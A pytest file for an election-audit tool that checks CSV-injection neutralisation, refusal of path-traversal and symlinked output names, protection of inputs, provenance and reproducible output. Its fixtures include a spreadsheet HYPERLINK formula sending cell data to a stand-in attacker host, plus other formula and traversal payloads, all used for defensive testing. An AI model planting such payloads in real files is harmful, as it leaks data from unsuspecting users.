"""Safe and reproducible outputs: spreadsheet-safe CSV, names that stay in
their folder, inputs never overwritten, provenance, byte-identical reruns."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import socket
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import audit.stations.forensics  # real tests register before the toys swap in
import audit.stations.registry
from audit.cli.main import main
from audit.core.errors import InputError, NotApplicable
from audit.core.outputs import (
    OutputFolder,
    csv_text,
    neutralise,
    provenance,
    refuse_overwrite,
    safe_path,
    write_csv,
)
from audit.stations.registry import register
from audit.stations.result import TestResult

DATA = Path(__file__).parent / "data" / "stations"
# What a spreadsheet takes as the start of a formula (OWASP "CSV Injection").
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _sha(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_spreadsheet_safe(path: Path) -> None:
    """No cell (header included) would run as a formula: each starts with a
    harmless character, is a plain number, or carries the neutralising quote."""
    for row in _cells(path.read_text(encoding="utf-8")):
        for cell in row:
            if cell and cell.lstrip(" ")[:1] in DANGEROUS:
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"{path.name}: formula-like cell {cell!r}")


# ------------------------------------------------------------------ CSV cells

@pytest.mark.parametrize("text, written", [
    ("=SUM(A1)", "'=SUM(A1)"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\n=1"),                     # CR inside a cell: written as a quoted \n
    ("a\rb", "a\nb"),
    (" =1", "' =1"),                       # leading spaces do not hide a formula
    ("\uff1d1+1", "'\uff1d1+1"),            # full-width equals sign
    (HYPERLINK, "'" + HYPERLINK),
    ("-", "'-"),
    ("-5", "-5"),                          # a plain number stays as it is
    ("+3.5e2", "+3.5e2"),
    ("'=already quoted", "'=already quoted"),
    ("a=b", "a=b"),
    ("North", "North"),
    ("Крым", "Крым"),
])
def test_text_cells_are_neutralised(text, written):
    frame = pd.DataFrame({"region": [text]})
    assert _cells(csv_text(frame))[1] == [written]


def test_only_text_is_changed():
    for value in (-5, -2.5, np.int64(-3), np.nan, None, True, pd.NA, b"=1"):
        assert neutralise(value) is value
    assert neutralise("") == ""


def test_numbers_stay_numbers_and_names_are_neutralised():
    frame = pd.DataFrame({"=x": ["=1", "b", None], "votes": [-5, 3, 0],
                          "share": [3.5, -0.25, np.nan], "flag": [True, False, True],
                          "mixed": [-5, "-2+3", 1.5],
                          "counts": pd.array([-1, None, 2], dtype="Int64")})
    text = csv_text(frame)
    assert text.splitlines() == [
        "'=x,votes,share,flag,mixed,counts",
        "'=1,-5,3.5,True,-5,-1",
        "b,3,-0.25,False,'-2+3,",
        ",0,,True,1.5,2"]
    back = pd.read_csv(io.StringIO(text))
    assert back["votes"].tolist() == [-5, 3, 0] and back["votes"].dtype == np.int64
    assert back["share"].iloc[:2].tolist() == [3.5, -0.25] and np.isnan(back["share"].iloc[2])


def test_csv_is_deterministic_utf8_with_newlines(tmp_path):
    frame = pd.DataFrame({"region": ["Севастополь", "Kherson"], "p": [1 / 3, 0.1]})
    path = write_csv(frame, tmp_path / "t.csv")
    data = path.read_bytes()
    assert b"\r" not in data and data.endswith(b"\n")
    assert data.decode("utf-8").splitlines()[1] == f"Севастополь,{1 / 3!r}"
    assert float(data.decode().splitlines()[1].split(",")[1]) == 1 / 3   # round trip
    assert write_csv(frame, tmp_path / "u.csv").read_bytes() == data


# ------------------------------------------------------------------ names

@pytest.mark.parametrize("name, bare, why", [
    ("../x", True, "without folders"),
    ("../x", False, "'..' would leave"),
    ("/etc/x", True, "absolute"),
    ("/etc/x", False, "absolute"),
    ("C:\\x", False, "absolute"),
    ("a/../../b", False, "'..' would leave"),
    ("a/b", True, "without folders"),
    ("a\\b", True, "without folders"),
    ("x\x00y", True, "character '\\x00'"),
    ("x\ny", True, "character '\\n'"),
    ("x:y", True, "character ':'"),
    ("CON", True, "reserved device name"),
    ("nul.csv", True, "reserved device name"),
    ("figures/LPT1.svg", False, "reserved device name"),
    (".hidden", True, "hidden"),
    ("", True, "empty"),
    ("a//b", False, "empty path component"),
])
def test_bad_names_are_refused(tmp_path, name, bare, why):
    with pytest.raises(InputError, match="is not allowed") as err:
        safe_path(tmp_path, name, bare=bare)
    assert why in str(err.value) and "\n" not in str(err.value)


def test_good_names(tmp_path):
    assert safe_path(tmp_path, "results.csv") == tmp_path / "results.csv"
    assert safe_path(tmp_path, "figures/evidence.svg", bare=False) == \
        tmp_path / "figures" / "evidence.svg"


def test_symlinks_out_of_the_folder_are_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("x\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "figures").symlink_to(outside, target_is_directory=True)
    (out / "results.csv").symlink_to(outside / "secret.csv")
    with pytest.raises(InputError, match="symbolic link"):
        safe_path(out, "figures/evidence.svg", bare=False)
    with pytest.raises(InputError, match="symbolic link"):
        safe_path(out, "results.csv")
    with pytest.raises(InputError, match="symbolic link"):
        OutputFolder(out).write_csv("results.csv", pd.DataFrame({"a": [1]}))
    assert (outside / "secret.csv").read_text() == "x\n"
    (out / "inside").mkdir()
    (out / "link").symlink_to(out / "inside", target_is_directory=True)
    assert safe_path(out, "link/x.csv", bare=False) == out / "link" / "x.csv"


def test_refuse_overwrite_api(tmp_path):
    data = tmp_path / "results.csv"
    data.write_text("a\n1\n")
    with pytest.raises(InputError, match="would overwrite the input"):
        refuse_overwrite(tmp_path, [data], ["results.csv"])
    with pytest.raises(InputError, match="is an input file"):
        refuse_overwrite(data, [data], ["results.csv"])
    refuse_overwrite(tmp_path, [data], ["results.json"])      # other names are fine
    out = OutputFolder(tmp_path, inputs=[data])
    with pytest.raises(InputError, match="would overwrite the input"):
        out.write_text("results.csv", "x")
    assert data.read_text() == "a\n1\n"


# ------------------------------------------------------------------ provenance

def test_provenance_content(tmp_path, monkeypatch):
    data = tmp_path / "in.csv"
    data.write_bytes(b"region,votes\nNorth,5\n")
    monkeypatch.chdir(tmp_path)
    p = provenance(["in.csv"], {"b": 2, "a": np.float64(0.5), "t": ("x", "y")}, 11)
    rec = p["inputs"][0]
    assert rec == {"path": "in.csv", "resolved": "in.csv",
                   "sha256": hashlib.sha256(b"region,votes\nNorth,5\n").hexdigest(),
                   "bytes": 21}
    assert list(p["parameters"]) == ["a", "b", "t"] and p["parameters"]["t"] == ["x", "y"]
    assert p["seed"] == 11
    import matplotlib
    import scipy

    from audit import __version__
    from audit.tables.readers import READER_VERSION

    sw = p["software"]
    assert sw["vote-audit"] == __version__ and sw["numpy"] == np.__version__
    assert sw["pandas"] == pd.__version__ and sw["scipy"] == scipy.__version__
    assert sw["matplotlib"] == matplotlib.__version__
    assert sw["reader_version"] == READER_VERSION and sw["python"].count(".") == 2
    with pytest.raises(InputError, match="input file not found"):
        provenance(["missing.csv"])


# ------------------------------------------------------------------ audit run

def _hostile_csv(path: Path, n: int = 60) -> Path:
    """A canonical results file whose region names are spreadsheet formulas."""
    regions = [HYPERLINK, "+SUM(1,1)", "@cmd", "-2+3", "North"]
    rng = np.random.default_rng(3)
    rows = []
    for i in range(n):
        registered = int(rng.integers(800, 2000))
        cast = int(registered * rng.uniform(0.5, 0.8))
        a = int(cast * rng.uniform(0.4, 0.6))
        rows.append({"region": regions[i % len(regions)], "district": "D",
                     "station": i + 1, "registered": registered,
                     "ballots_issued": cast, "ballots_cast": cast, "invalid": 0,
                     "Alpha": a, "Beta": cast - a})
    frame = pd.DataFrame(rows)
    # an excluded row (no counts) and an impossible one (issued > registered)
    frame.loc[len(frame)] = [HYPERLINK, "D", n + 1] + [None] * 6
    frame.loc[1, "ballots_issued"] = frame.loc[1, "registered"] + 10
    counts = ["registered", "ballots_issued", "ballots_cast", "invalid", "Alpha", "Beta"]
    frame[counts] = frame[counts].astype("Int64")
    frame.to_csv(path, index=False)
    return path


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_hostile_region_names_are_neutralised(tmp_path, capsys):
    data = _hostile_csv(tmp_path / "hostile.csv")
    out = tmp_path / "out"
    code = main(["run", str(data), "--format", "canonical", "--tests", "last_digit",
                 "--by", "region", "--no-figures", "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    excluded = _cells((out / "excluded.csv").read_text(encoding="utf-8"))
    assert excluded[0][:3] == ["source_row", "reason", "region"]
    assert excluded[1][2] == "'" + HYPERLINK
    for name in ("results.csv", "excluded.csv", "findings.csv"):
        _assert_spreadsheet_safe(out / name)
    scopes = [r["scope"] for r in json.loads((out / "results.json").read_text())["results"]]
    assert f"region={HYPERLINK}" in scopes      # JSON keeps the names exactly


@pytest.fixture
def toys(monkeypatch):
    reg: dict = {}
    monkeypatch.setattr(audit.stations.registry, "REGISTRY", reg)
    monkeypatch.setattr(audit.stations.registry, "load_plugins", list)

    @register("toy_negative", family="toy", min_units=2)
    def toy_negative(ballots_cast, leader, *, rng=None):
        """A negative statistic, a random p-value and a table to draw."""
        rng = np.random.default_rng(rng)
        return TestResult("toy_negative", statistic=-5.0, pvalue=float(rng.uniform()),
                          n=len(leader), details={"note": "=1+1"},
                          table=pd.DataFrame({"digit": [0, 1, 2], "observed": [5, 3, 2],
                                              "expected": [4.0, 3.0, 3.0]}))

    @register("toy_refuses", family="toy")
    def toy_refuses(ballots_cast, *, rng=None):
        """Does not apply, with a reason that looks like a formula."""
        raise NotApplicable("@SUM(A1) is not a reason")

    return reg


def test_results_csv_cells_are_neutralised_and_numbers_kept(toys, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["run", str(DATA / "canonical.csv"), "--format", "canonical",
                 "--no-figures", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text())))
    assert rows[0]["statistic"] == "-5.0"
    assert rows[1]["reason"] == "'@SUM(A1) is not a reason"
    _assert_spreadsheet_safe(out / "results.csv")


def test_same_command_gives_identical_bytes_including_figures(toys, tmp_path, capsys):
    data = _hostile_csv(tmp_path / "in.csv")
    args = ["run", str(data), "--format", "canonical", "--by", "region", "--seed", "4"]
    assert main(args + ["--out", str(tmp_path / "a")]) == 0
    assert main(args + ["--out", str(tmp_path / "b")]) == 0
    a, b = _files(tmp_path / "a"), _files(tmp_path / "b")
    assert {"results.json", "results.csv", "excluded.csv", "findings.csv", "source.json",
            "manifest.json", "figures/evidence.svg", "figures/evidence.pdf",
            "figures/evidence.png", "figures/toy_negative.png"} <= set(a)
    assert a.keys() == b.keys()
    assert [k for k in a if a[k] != b[k]] == []
    # no output names its folder, the time or the machine
    for content in a.values():
        assert str(tmp_path).encode() not in content.replace(str(data).encode(), b"")
    host = socket.gethostname()
    if len(host) >= 6:
        assert not any(host.encode() in c for c in a.values())
    # the manifest lists every other file with its sha256
    manifest = json.loads(a["manifest.json"])
    assert {f["path"]: f["sha256"] for f in manifest["files"]} == \
        {k: hashlib.sha256(v).hexdigest() for k, v in a.items() if k != "manifest.json"}
    results = json.loads(a["results.json"])
    prov = results["provenance"]
    assert prov == manifest["provenance"]
    assert prov["inputs"] == [{"path": str(data), "resolved": os.path.relpath(data),
                               "sha256": _sha(data), "bytes": data.stat().st_size}]
    assert prov["seed"] == 4 and prov["parameters"]["by"] == "region"
    assert b'"seed":4' in a["figures/evidence.svg"] and b'"seed":4' in a["figures/evidence.png"]
    # another seed: another provenance (and other p-values)
    assert main(args[:-1] + ["5", "--out", str(tmp_path / "c")]) == 0
    c = _files(tmp_path / "c")
    assert json.loads(c["results.json"])["provenance"]["seed"] == 5
    assert c["figures/evidence.svg"] != a["figures/evidence.svg"]


# ------------------------------------------------------------------ inputs are safe

def _refused(capsys, argv, *inputs):
    before = {p: _sha(p) for p in inputs}
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("audit: error: ") and err.count("\n") == 1, err
    assert {p: _sha(p) for p in inputs} == before
    return err


def test_an_input_is_never_overwritten(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    src = (DATA / "canonical.csv").read_bytes()
    Path("results.csv").write_bytes(src)
    common = ["--format", "canonical", "--tests", "last_digit", "--no-figures"]
    err = _refused(capsys, ["run", "results.csv", *common, "--out", "."],
                   Path("results.csv"))
    assert "output 'results.csv' would overwrite the input 'results.csv'" in err
    assert sorted(os.listdir(".")) == ["results.csv"]         # nothing else written
    # a run that fails on its input leaves no output folder behind
    assert main(["run", "results.csv", "--format", "canonical", "--tests", "nope",
                 "--out", "never"]) == 2
    assert not Path("never").exists()
    capsys.readouterr()
    # --out pointing at the input file itself
    err = _refused(capsys, ["run", "results.csv", *common, "--out", "results.csv"],
                   Path("results.csv"))
    assert "is an input file" in err
    # the mapping file is an input too
    Path("data.csv").write_bytes(src)
    Path("source.json").write_text("{}\n")
    err = _refused(capsys, ["run", "data.csv", *common, "--mapping", "source.json",
                            "--out", "."], Path("source.json"), Path("data.csv"))
    assert "would overwrite the input 'source.json'" in err
    # a hard link to the input under an output name
    os.mkdir("out")
    os.link("data.csv", "out/findings.csv")
    err = _refused(capsys, ["run", "data.csv", *common, "--out", "out"], Path("data.csv"))
    assert "output 'findings.csv' would overwrite the input 'data.csv'" in err
    # an input beside the outputs under another name is fine; other files are kept
    Path("notes.txt").write_text("mine\n")
    assert main(["run", "data.csv", *common, "--out", "."]) == 0
    assert Path("data.csv").read_bytes() == src and Path("notes.txt").read_text() == "mine\n"
    assert {"results.json", "manifest.json", "notes.txt"} <= set(os.listdir("."))
